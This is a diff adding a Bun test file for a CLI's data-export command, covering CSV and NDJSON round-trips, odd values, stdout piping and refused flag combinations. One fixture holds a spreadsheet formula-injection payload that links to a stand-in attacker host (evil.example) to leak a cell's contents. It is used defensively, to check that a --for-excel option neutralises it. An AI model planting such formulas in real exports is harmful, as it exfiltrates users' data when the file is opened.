@@ -1,0 +1,216 @@
+/** Exports by the real program, read back by other programs' readers, value by value. */
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { existsSync, readdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import { parseJson } from "../../src/lib/json.ts";
+import { STREAMS } from "../../src/streams/index.ts";
+import { changeFile } from "../export/fixture.ts";
+import { put, resource } from "../store/fixture.ts";
+import { type Ended, PROGRAM, run, start, temporaryFolder } from "./program.ts";
+import {
+  cellsApart,
+  manifestOf,
+  readByDuckdb,
+  readCsv,
+  readFile,
+  readNdjson,
+  withoutHalves,
+} from "./readers.ts";
+import { FAST, startLocalSandbox } from "./relay.ts";
+
+const folder = temporaryFolder();
+afterAll(folder.remove);
+const db = join(folder.path, "kustomer.db");
+let count = 0;
+const newFolder = () => join(folder.path, `out ${++count}`);
+
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")';
+
+/** What is odd about attributes, and no row of the sandbox has. */
+const ODD: Record<string, string>[] = [
+  { name: '"a\\u0000b\\u0001\\"c"', body: `"${"x".repeat(1_000_000)}é"` },
+  {
+    name: '""',
+    preview: '" a, \\"b\\"\\r\\nc\\n"',
+    "half\\ud800": '"\\ud800"',
+    company: '{"half":"\\ude00"}',
+  },
+  { rev: "9007199254740993", custom: '{"big":12345678901234567890,"over":1e309,"lines":"a\\nb"}' },
+  { rev: "9223372036854775807", newOne: "9007199254740993", newReal: "5" },
+  { rev: "-9223372036854775808", newReal: "0.1", newBool: "true" },
+  { newReal: "1e300", newBool: "false", newAt: '"2026-11-23T01:02:03.004Z"', "=odd, name": '"odd"' },
+  { name: JSON.stringify(FORMULA), over: "1e309", newJson: '[1,{"a":null}]', "2": '"two"' },
+];
+
+beforeAll(async () => {
+  await using sandbox = await startLocalSandbox({ rows: 3_000 });
+  const synced = await run(["sync", "--quiet", "--db", db, ...FAST], { cwd: folder.path, env: sandbox.env });
+  expect(synced.code).toBe(0);
+  changeFile(db, (store) => {
+    const rows = ODD.map((attributes, index) => {
+      const text = Object.entries(attributes).map(([name, value]) => `"${name}":${value}`);
+      return resource(`odd ${index}`, parseJson(`{${text.join(",")}}`) as Record<string, unknown>);
+    });
+    put(store, "customers", rows);
+  });
+}, 60_000);
+
+function exporting(args: readonly string[], file = db): Promise<Ended> {
+  return run(["export", "--db", file, ...args], { cwd: folder.path });
+}
+
+async function exported(args: readonly string[]) {
+  const out = newFolder();
+  const ended = await exporting(["--out", out, "--quiet", ...args]);
+  expect([ended.code, ended.stderr]).toEqual([0, ""]);
+  return { out, manifest: manifestOf(out), stdout: ended.stdout };
+}
+
+describe("read back by others, every value of every column is as in the file", () => {
+  test("CSV, by csv-parse and by DuckDB", async () => {
+    const { out, manifest } = await exported(["--include-deleted"]);
+    expect(manifest.streams.map(({ stream }) => stream)).toEqual(STREAMS.map(({ name }) => name));
+    for (const stream of manifest.streams) {
+      const held = readFile(db, stream);
+      expect([stream.stream, stream.rows]).toEqual([stream.stream, held.size]);
+      expect(cellsApart(stream.columns, held, readCsv(out, stream))).toEqual([]);
+      expect(cellsApart(stream.columns, held, await readByDuckdb(out, stream, "csv"))).toEqual([]);
+    }
+  }, 60_000);
+
+  test("NDJSON in row groups, line by line and by DuckDB", async () => {
+    const { out, manifest } = await exported(["--format", "ndjson", "--row-group-rows", "200"]);
+    for (const stream of manifest.streams) {
+      const held = withoutHalves(readFile(db, stream, "_deleted_at IS NULL"));
+      expect([stream.stream, stream.rows, stream.files.length]).toEqual([
+        stream.stream,
+        held.size,
+        Math.max(1, Math.ceil(held.size / 200)),
+      ]);
+      expect(cellsApart(stream.columns, held, readNdjson(out, stream))).toEqual([]);
+      expect(cellsApart(stream.columns, held, await readByDuckdb(out, stream, "json"))).toEqual([]);
+    }
+  }, 60_000);
+
+  test("packed and by month, and the folders say the month", async () => {
+    const { out, manifest } = await exported([
+      "conversations",
+      "--partition-by",
+      "month",
+      "--compress",
+      "zstd",
+      "--format",
+      "ndjson",
+    ]);
+    const [stream] = manifest.streams;
+    const held = readFile(db, stream!, "_deleted_at IS NULL");
+    expect(cellsApart(stream!.columns, held, await readByDuckdb(out, stream!, "json"))).toEqual([]);
+    const created = stream!.columns.findIndex(({ name }) => name === "created_at");
+    const months = [...held.values()].map((row) => row[created]?.slice(0, 7) ?? null);
+    const counts = new Map<string | null, number>();
+    for (const month of months) counts.set(month, (counts.get(month) ?? 0) + 1);
+    expect(
+      new Map(stream!.files.map(({ rows, partition }) => [partition?.created_month ?? null, rows])),
+    ).toEqual(counts);
+  }, 60_000);
+});
+
+test("a customer's formula is left as it is, and with --for-excel does not run", async () => {
+  const { out: plain } = await exported(["customers"]);
+  const { out: guarded } = await exported(["customers", "--for-excel"]);
+  const quoted = FORMULA.replaceAll('"', '""');
+  expect(readFileSync(join(plain, "customers.csv"), "utf8")).toContain(`"${quoted}"`);
+  const text = readFileSync(join(guarded, "customers.csv"), "utf8");
+  expect(text).toContain(`"'${quoted}"`);
+  expect([text.startsWith("\ufeffid,"), text.includes(`"${quoted}"`), text.includes(",'=odd")]).toEqual([
+    true,
+    false,
+    false,
+  ]);
+});
+
+describe("to stdout", () => {
+  test("are the bytes that the file would hold, and nothing else", async () => {
+    const { out } = await exported(["tags"]);
+    const { code, stdout } = await exporting(["tags", "--stdout"]);
+    expect([code, stdout]).toEqual([0, readFileSync(join(out, "tags.csv"), "utf8")]);
+  });
+
+  test("| head ends it quietly", async () => {
+    const command = [...PROGRAM, "export", "conversations", "--stdout", "--format", "ndjson", "--db", db];
+    const script = '"$@" | head -1; echo "$PIPESTATUS"';
+    const shell = Bun.spawnSync(["bash", "-c", script, "-", ...command], { cwd: folder.path });
+    const [line, status] = shell.stdout.toString().split("\n");
+    expect(Object.keys(JSON.parse(line!) as object).length).toBeGreaterThan(50);
+    expect([status, shell.stderr.toString()]).toEqual(["0", ""]);
+  });
+});
+
+test("--json is one object, and without it there is a table", async () => {
+  const out = newFolder();
+  const { stdout, stderr, code } = await exporting(["tags", "teams", "--out", out, "--json"]);
+  const { moment, streams, ...rest } = JSON.parse(stdout);
+  expect([code, rest, moment]).toEqual([0, { out, format: "csv" }, manifestOf(out).moment]);
+  const { rows, bytes } = manifestOf(out).streams[0]!.files[0]!;
+  expect(streams[0]).toEqual({ stream: "tags", rows, deleted: 0, files: 1, bytes, since: null });
+  expect(stderr).toContain("tags: done");
+  const table = await exporting(["tags", "--out", newFolder()]);
+  expect(table.stdout).toMatch(
+    /^stream +rows +of them deleted +files +size\ntags +\d+ +\d+ +1 +[\d.]+ kB\n$/,
+  );
+});
+
+const refused: [string, string[]][] = [
+  ["--since and --since-last exclude each other", ["--since", "2026-01-01", "--since-last"]],
+  ["--since-last and --overwrite exclude each other", ["--since-last", "--overwrite"]],
+  ["--for-excel is of CSV", ["--format", "ndjson", "--for-excel"]],
+  ["CSV has no row groups", ["--row-group-rows", "10"]],
+  ["--stdout and --out exclude each other", ["tags", "--stdout", "--out", "x"]],
+  ["--stdout and --partition-by exclude", ["tags", "--stdout", "--partition-by", "day"]],
+  ["--stdout and --json exclude", ["tags", "--stdout", "--json"]],
+  ["--stdout and --since-last exclude", ["tags", "--stdout", "--since-last"]],
+  ["--stdout takes one stream, not 9", ["--stdout"]],
+  ['--format: "xml" is not one of csv', ["--format", "xml"]],
+  [
+    '--row-group-rows: "0" is not a whole number of at least 1',
+    ["--format", "ndjson", "--row-group-rows", "0"],
+  ],
+  ['STREAM "tickets" is not one of', ["tickets"]],
+  ["--skip leaves out every stream", ["tags", "--skip", "tags"]],
+  ["this is not a folder", ["--out", db]],
+];
+
+test.each(refused)("%s: exit 2, a hint, and nothing is written", async (message, args) => {
+  const { path, remove } = temporaryFolder();
+  try {
+    const { code, stderr } = await run(["export", "--db", db, ...args], { cwd: path });
+    expect([code, stderr]).toEqual([2, expect.stringContaining(message)]);
+    expect(stderr).toContain("\n  try: ");
+    // Bun, which runs the program from source here, keeps what it compiled.
+    expect(readdirSync(path).filter((name) => name !== ".bun")).toEqual([]);
+  } finally {
+    remove();
+  }
+});
+
+test("without a file there is nothing to export, and no folder is made", async () => {
+  const out = newFolder();
+  const { code, stderr } = await exporting(["--out", out], join(folder.path, "none.db"));
+  expect([code, stderr, existsSync(out)]).toEqual([
+    5,
+    expect.stringContaining("there is no such file"),
+    false,
+  ]);
+});
+
+test.each(["SIGINT", "SIGTERM"] as const)("%s ends it with 130, and nothing is left", async (signal) => {
+  // Nobody reads: the program is in the midst of it for as long as the test likes.
+  const process = start(["export", "conversations", "--stdout", "--format", "ndjson", "--db", db], {
+    cwd: folder.path,
+  });
+  const reader = process.stdout.getReader();
+  await reader.read();
+  process.kill(signal);
+  expect(await process.exited).toBe(130);
+  expect(await new Response(process.stderr).text()).toContain("try: the same command again");
+});
